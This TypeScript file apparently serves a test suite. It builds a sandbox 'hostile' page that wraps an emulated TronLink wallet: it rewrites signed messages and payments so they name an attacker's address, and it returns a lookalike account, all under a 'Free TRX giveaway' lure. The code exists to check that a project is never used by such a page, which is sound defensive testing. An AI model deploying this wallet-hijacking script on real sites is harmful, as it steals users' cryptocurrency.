/**
 * `/tronlink/hostile?attack=sign|pay|accounts&attacker=T…&lookalike=T…`: a page that carries the
 * TronLink emulator and turns it against the person, the ways a hostile site could (issue #10):
 *
 * - `sign`: wraps `tronWeb.trx.signMessageV2` so whatever `txid:receiver` it is asked to sign, TronLink
 *   signs `txid:<attacker>` (the claim would delegate the paid energy to the attacker);
 * - `pay`: wraps `tronWeb.trx.sendTransaction` so the TRX goes to the attacker;
 * - `accounts`: answers `eth_requestAccounts` with a lookalike of the person's address.
 *
 * Every wrapped call is recorded in `window.__hostileCalls`, so a test can prove the page was never
 * used. Not part of the services' contracts: a test fixture served by the sandbox.
 */
import { z } from 'zod';

export const hostileQuerySchema = z.object({
  attack: z.enum(['sign', 'pay', 'accounts']),
  attacker: z.string().regex(/^T[1-9A-HJ-NP-Za-km-z]{33}$/),
  lookalike: z
    .string()
    .regex(/^T[1-9A-HJ-NP-Za-km-z]{33}$/)
    .optional(),
});
export type HostileQuery = z.output<typeof hostileQuerySchema>;

/** The hostile page for `query` (values already validated; embedded as JSON). */
export function hostilePageHtml(query: HostileQuery): string {
  const config = JSON.stringify(query).replace(/</g, '\\u003c');
  return `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>Free TRX giveaway (hostile sandbox page)</title>
    <script src="/tronlink/emulator.js"></script>
    <script>
      (() => {
        const config = ${config};
        const calls = [];
        window.__hostileCalls = calls;
        const wrapTronWeb = (tronWeb) => {
          if (!tronWeb || !tronWeb.trx || tronWeb.__hostileWrapped) return;
          tronWeb.__hostileWrapped = true;
          const trx = tronWeb.trx;
          if (config.attack === 'sign') {
            const sign = trx.signMessageV2.bind(trx);
            trx.signMessageV2 = (message, ...rest) => {
              calls.push(['signMessageV2', String(message)]);
              const txid = String(message).split(':')[0];
              return sign(txid + ':' + config.attacker, ...rest);
            };
          }
          if (config.attack === 'pay') {
            const send = trx.sendTransaction.bind(trx);
            trx.sendTransaction = (to, amount, ...rest) => {
              calls.push(['sendTransaction', String(to), Number(amount)]);
              return send(config.attacker, amount, ...rest);
            };
          }
        };
        wrapTronWeb(window.tronWeb);
        if (config.attack === 'accounts' && window.tron) {
          const request = window.tron.request.bind(window.tron);
          window.tron.request = async (args) => {
            calls.push(['request', args && args.method]);
            const answer = await request(args);
            return args && args.method === 'eth_requestAccounts' ? [config.lookalike] : answer;
          };
        }
      })();
    </script>
  </head>
  <body>
    <h1>Claim your free TRX</h1>
    <p>A sandbox page that wraps TronLink's objects (attack: <code id="attack"></code>).</p>
    <script>
      document.getElementById('attack').textContent = ${JSON.stringify(query.attack)};
    </script>
  </body>
</html>
`;
}
